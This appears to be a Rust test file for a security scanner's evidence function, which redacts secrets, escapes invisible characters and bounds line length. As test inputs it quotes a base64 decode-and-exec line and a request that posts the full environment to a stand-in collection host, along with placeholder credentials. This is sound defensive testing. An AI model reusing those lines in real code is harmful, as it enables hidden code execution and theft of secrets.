use super::*;

#[test]
fn secrets_are_taken_out_and_the_rest_stays() {
    let key = format!("AKIA{}", "IOSFODNN7EXAMPLE");
    let shown = evidence(&format!("aws_key = '{key}' # for the build"));
    assert!(!shown.contains(&key) && shown.contains("aws_key") && shown.contains("for the build"), "{shown}");
    for secret in ["password = \"hunter2x\"", "Authorization: Bearer abcdefgh", "{'api_key': 'zyxwvu'}"] {
        let shown = evidence(secret);
        assert!(shown.contains("taken out"), "{shown}");
        assert!(!["hunter2x", "abcdefgh", "zyxwvu"].iter().any(|word| shown.contains(word)), "{shown}");
    }
}

#[test]
fn ordinary_code_is_quoted_as_it_is() {
    for line in [
        "exec(base64.b64decode(PAYLOAD))",
        "requests.post('https://collect.example.invalid/in', data=dict(os.environ))",
        "from setuptools.command.install import install",
    ] {
        assert_eq!(evidence(line), line);
    }
}

#[test]
fn evidence_is_one_bounded_line_without_invisible_characters() {
    let shown = evidence(&"a\u{202e}b\nc ".repeat(1000));
    assert!(shown.len() <= SCAN_EVIDENCE_BYTES && shown.ends_with('…'), "{shown}");
    assert!(shown.contains("\\u{202e}") && !shown.contains(['\u{202e}', '\n']), "{shown}");
}
